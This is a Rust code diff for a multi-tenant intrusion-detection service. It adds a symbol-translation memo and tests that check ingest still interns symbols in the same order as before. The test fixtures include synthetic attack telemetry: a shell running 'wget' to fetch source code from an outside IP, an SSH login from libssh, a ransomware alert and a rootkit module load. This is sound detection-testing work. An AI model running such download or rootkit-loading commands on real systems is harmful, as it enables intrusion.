@@ -15,9 +15,12 @@
 //!   [`SymScope`] is threaded through the whole pipeline: the factory
 //!   receives it so the symbolizer, correlator and response stage all
 //!   mint and resolve in the tenant's table, and ingest re-mints
-//!   record symbols from the caller's global scope into it
-//!   ([`LogRecord::rescope`]). Snapshots persist canonical strings,
-//!   never raw symbol ids.
+//!   record symbols from the caller's global scope into it. The re-mint
+//!   rewrites the owned batch in place ([`LogRecord::remap_syms`])
+//!   through a per-session memo indexed by global symbol id, so each
+//!   distinct string is re-interned once, in the order
+//!   [`LogRecord::rescope`] would intern it. Snapshots persist canonical
+//!   strings, never raw symbol ids.
 //! - **Snapshot / restore**: [`ServiceHandle::snapshot`] captures a
 //!   tenant's full mid-stream detection state — scan-filter windows,
 //!   tagger posteriors, the campaign graph, stream counters, and the
@@ -39,7 +42,7 @@ use std::thread::JoinHandle;
 use alertlib::filter::FilterSnapshot;
 use detect::attack_tagger::TaggerSnapshot;
 use detect::correlate::CorrelatorSnapshot;
-use simnet::intern::{SymScope, TenantId, TenantSymbols};
+use simnet::intern::{Sym, SymScope, TenantId, TenantSymbols};
 use simnet::rng::FxHashMap;
 use telemetry::record::LogRecord;
 
@@ -121,6 +124,49 @@ pub struct ServiceSnapshot {
 struct TenantSession {
     core: InlineCore,
     scope: SymScope,
+    memo: SymMemo,
+}
+
+/// Dense global→tenant symbol translation for one session, indexed by
+/// the global [`Sym::id`] (4 bytes per global id up to the highest one
+/// ingested). A miss re-mints the string into the tenant's scope once;
+/// every later sighting is an array load. Entries stay valid for the
+/// session's life because tenant tables are append-only (restore only
+/// appends); eviction drops the memo with the session.
+#[derive(Default)]
+struct SymMemo {
+    /// Tenant-table id per global id; [`SymMemo::UNSEEN`] until first
+    /// sighting.
+    ids: Vec<u32>,
+}
+
+impl SymMemo {
+    const UNSEEN: u32 = u32::MAX;
+
+    fn translate(&mut self, global: &SymScope, scope: &SymScope, s: Sym) -> Sym {
+        let i = s.id() as usize;
+        match self.ids.get(i) {
+            Some(&id) if id != Self::UNSEEN => {
+                // A hit skips `global.resolve`, so keep its debug
+                // cross-table guard here.
+                #[cfg(debug_assertions)]
+                if let Err(e) = global.try_resolve(s) {
+                    panic!("ingested record carries a non-global symbol: {e}");
+                }
+                scope.sym_from_id(id)
+            }
+            _ => {
+                // Resolve before growing: a foreign or out-of-range id
+                // panics here instead of sizing the memo to it.
+                let t = scope.sym(global.resolve(s));
+                if i >= self.ids.len() {
+                    self.ids.resize(i + 1, Self::UNSEEN);
+                }
+                self.ids[i] = t.id();
+                t
+            }
+        }
+    }
 }
 
 enum Control {
@@ -278,16 +324,16 @@ fn worker_loop(
             Err(_) => break,
         };
         match msg {
-            Control::Ingest(tenant, records) => {
+            Control::Ingest(tenant, mut records) => {
                 let session = session_entry(&mut sessions, symbols, factory, tenant);
                 // Callers mint record symbols in the global scope;
                 // re-mint them into the tenant's universe so every
                 // symbol the session touches lives (and dies) with it.
-                let scoped: Vec<LogRecord> = records
-                    .iter()
-                    .map(|r| r.rescope(&global, &session.scope))
-                    .collect();
-                session.core.process_records_at(None, &scoped);
+                let TenantSession { core, scope, memo } = session;
+                for r in &mut records {
+                    r.remap_syms(|s| memo.translate(&global, scope, s));
+                }
+                core.process_records_at(None, &records);
             }
             Control::Snapshot(tenant, reply) => {
                 let result = match sessions.get(&tenant) {
@@ -340,6 +386,7 @@ fn session_entry<'a>(
         TenantSession {
             core: InlineCore::new(factory(tenant, scope.clone())),
             scope,
+            memo: SymMemo::default(),
         }
     })
 }
@@ -413,9 +460,13 @@ mod tests {
     use detect::attack_tagger::{AttackTagger, TaggerConfig, TemporalPolicy};
     use detect::correlate::CorrelationPolicy;
     use detect::train::toy_training_model;
+    use simnet::action::{AuthMethod, DbCommandKind, FileOp};
     use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
     use simnet::time::{SimDuration, SimTime};
-    use telemetry::record::{ConnRecord, ProcessRecord};
+    use telemetry::record::{
+        AuditRecord, AuthRecord, ConnRecord, DbRecord, FileRecord, HttpRecord, NoticeKind,
+        NoticeRecord, ProcessRecord, SshRecord,
+    };
 
     fn attack_records(user: &str, base: u64) -> Vec<LogRecord> {
         [
@@ -459,6 +510,98 @@ mod tests {
         })
     }
 
+    /// One record of every kind. Users, hosts and binaries repeat across
+    /// kinds and calls, so a stream of these both misses and hits the
+    /// ingest memo.
+    fn mixed_records(i: u64) -> Vec<LogRecord> {
+        let ts = SimTime::from_secs(i * 10);
+        let host = simnet::topology::HostId(1);
+        let a: std::net::Ipv4Addr = "103.102.1.1".parse().unwrap();
+        let b: std::net::Ipv4Addr = "141.142.2.1".parse().unwrap();
+        let user = Sym::from(format!("user{}", i % 3));
+        vec![
+            probe_record(i),
+            LogRecord::Http(HttpRecord {
+                ts,
+                uid: FlowId(i),
+                orig_h: a,
+                resp_h: b,
+                method: "GET".into(),
+                host: "64.215.4.5".into(),
+                uri: format!("/abs{i}.c").into(),
+                status: 200,
+                mime: "application/x-executable".into(),
+                user_agent: "Wget/1.19".into(),
+            }),
+            LogRecord::Ssh(SshRecord {
+                ts,
+                uid: FlowId(i),
+                orig_h: a,
+                resp_h: b,
+                user,
+                method: AuthMethod::Password,
+                success: i.is_multiple_of(2),
+                client_banner: "SSH-2.0-libssh".into(),
+                direction: Direction::Inbound,
+            }),
+            LogRecord::Notice(NoticeRecord {
+                ts,
+                note: NoticeKind::Custom("alert_ransomware".into()),
+                msg: format!("notice {i}").into(),
+                src: a,
+                dst: Some(b),
+                sub: "cn01".into(),
+            }),
+            LogRecord::Process(ProcessRecord {
+                ts,
+                host,
+                hostname: "cn01".into(),
+                user,
+                pid: 1,
+                ppid: 0,
+                exe: "/bin/sh".into(),
+                cmdline: "wget http://64.215.4.5/abs.c".into(),
+            }),
+            LogRecord::File(FileRecord {
+                ts,
+                host,
+                hostname: "cn01".into(),
+                user,
+                path: format!("/tmp/f{i}").into(),
+                op: FileOp::Create,
+                process: "/bin/sh".into(),
+            }),
+            LogRecord::Auth(AuthRecord {
+                ts,
+                host,
+                hostname: "cn02".into(),
+                user,
+                method: AuthMethod::PublicKey,
+                success: true,
+                src_addr: Some(a),
+            }),
+            LogRecord::Audit(AuditRecord {
+                ts,
+                host,
+                hostname: "cn01".into(),
+                user: "root".into(),
+                syscall: "init_module".into(),
+                args: format!("rootkit{i}.ko").into(),
+                exit_code: 0,
+            }),
+            LogRecord::Db(DbRecord {
+                ts,
+                uid: FlowId(i),
+                orig_h: a,
+                resp_h: b,
+                host: Some(host),
+                user: "postgres".into(),
+                command: DbCommandKind::Query,
+                statement: "SELECT version()".into(),
+            }),
+        ]
+    }
+
     fn factory() -> impl FnMut(TenantId, SymScope) -> BuiltPipeline + Send + 'static {
         |_, scope| {
             PipelineBuilder::new()
@@ -493,6 +636,91 @@ mod tests {
             "benign tenant unaffected by the other tenant's attack"
         );
         assert!(by_tenant[&benign].stats.records == 200);
+    }
+
+    #[test]
+    fn memo_translates_each_global_symbol_once() {
+        let global = SymScope::global();
+        let tenant = SymScope::fresh();
+        let mut memo = SymMemo::default();
+        let s = global.sym("memo-probe-string");
+        let t = memo.translate(&global, &tenant, s);
+        assert_eq!(tenant.resolve(t), "memo-probe-string");
+        let len = tenant.len();
+        assert_eq!(memo.translate(&global, &tenant, s), t);
+        assert_eq!(tenant.len(), len, "a memo hit interns nothing");
+    }
+
+    /// The memo hit path skips `global.resolve`, so it must keep the
+    /// debug cross-table guard itself. Tested on the helper directly: a
+    /// panic on the service worker is swallowed by `shutdown`.
+    #[cfg(debug_assertions)]
+    #[test]
+    #[should_panic(expected = "non-global symbol")]
+    fn memo_hit_rejects_symbols_not_minted_globally() {
+        let global = SymScope::global();
+        let tenant = SymScope::fresh();
+        let foreign = SymScope::fresh().sym("minted-elsewhere");
+        global.sym("memo-guard-padding");
+        let mut memo = SymMemo::default();
+        // Populate the memo slot the foreign handle's id indexes.
+        memo.translate(&global, &tenant, global.sym_from_id(foreign.id()));
+        memo.translate(&global, &tenant, foreign);
+    }
+
+    #[test]
+    fn memoised_ingest_interns_in_rescope_order() {
+        let batches: Vec<Vec<LogRecord>> = (0..6).map(mixed_records).collect();
+        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
+        let tenant = TenantId(11);
+        for batch in &batches {
+            service.ingest(tenant, batch.clone()).unwrap();
+        }
+        let universe = service.snapshot(tenant).unwrap().sym_universe;
+        assert_eq!(universe, service.symbols().get(tenant).unwrap().snapshot());
+        let (_, report) = service.shutdown().pop().unwrap();
+
+        // Reference: the same pipeline in a fresh scope fed per-record
+        // `rescope`d copies, batch by batch (the pipeline pre-interns
+        // its own palette at construction, ahead of any record).
+        let global = SymScope::global();
+        let fresh = SymScope::fresh();
+        let mut core = InlineCore::new(factory()(tenant, fresh.clone()));
+        for batch in &batches {
+            let scoped: Vec<LogRecord> = batch.iter().map(|r| r.rescope(&global, &fresh)).collect();
+            core.process_records_at(None, &scoped);
+        }
+        assert_eq!(universe, fresh.snapshot());
+        core.flush();
+        let reference = core.into_report();
+        assert_eq!(report.stats, reference.stats);
+        assert_eq!(report.notifications, reference.notifications);
+    }
+
+    #[test]
+    fn evicted_tenant_reingests_identically() {
+        let service = ServiceHandle::spawn(ServiceConfig::default(), factory());
+        let tenant = TenantId(12);
+        let stream: Vec<Vec<LogRecord>> = (0..4)
+            .map(mixed_records)
+            .chain([attack_records("user1", 100)])
+            .collect();
+        // Each lifetime starts a fresh scope and an empty memo; a memo
+        // surviving eviction would translate into the dead table.
+        let lifetime = || {
+            for batch in &stream {
+                service.ingest(tenant, batch.clone()).unwrap();
+            }
+            let universe = service.snapshot(tenant).unwrap().sym_universe;
+            (universe, service.evict_tenant(tenant).unwrap())
+        };
+        let (first_universe, first) = lifetime();
+        let (second_universe, second) = lifetime();
+        assert!(first.stats.detections > 0, "workload must detect");
+        assert_eq!(first.notifications, second.notifications);
+        assert_eq!(first.stats, second.stats);
+        assert_eq!(first_universe, second_universe);
+        assert_eq!(service.symbols().evicted(), 2);
     }
 
     #[test]
